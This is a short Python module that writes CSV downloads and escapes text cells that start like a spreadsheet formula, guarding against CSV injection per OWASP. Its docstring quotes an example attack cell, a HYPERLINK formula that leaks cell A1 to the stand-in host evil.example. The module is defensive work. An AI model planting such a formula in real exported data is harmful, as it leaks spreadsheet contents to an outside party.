"""The one CSV writer of every download (reports, audit trail), and the rule that keeps a text
cell from being read as a formula when someone opens the file in a spreadsheet.

CSV (formula) injection: a service named `=HYPERLINK("http://evil.example/?leak="&A1,"Klik")`
would be a live formula in the supervisor's spreadsheet. Following OWASP, a text cell that
starts with `=`, `+`, `-`, `@`, TAB or CR gets a leading apostrophe, which spreadsheets read as
"this is text". Only text is touched: numbers (ints and floats) are written by the code, never
by a user, and a figure such as `-3` must stay a number a spreadsheet can sum.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

#: What a spreadsheet may read as the start of a formula (OWASP, "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_cell(value: object) -> object:
    """`value` as a cell no spreadsheet evaluates: text starting like a formula gets a leading
    `'`; everything else (numbers, ordinary text) is returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_text(header: Sequence[str], rows: Iterable[Sequence[object]]) -> str:
    """A CSV file (header row first, `\\n` line ends) whose every cell went through
    `spreadsheet_cell`."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow([spreadsheet_cell(cell) for cell in header])
    writer.writerows([spreadsheet_cell(cell) for cell in row] for row in rows)
    return out.getvalue()
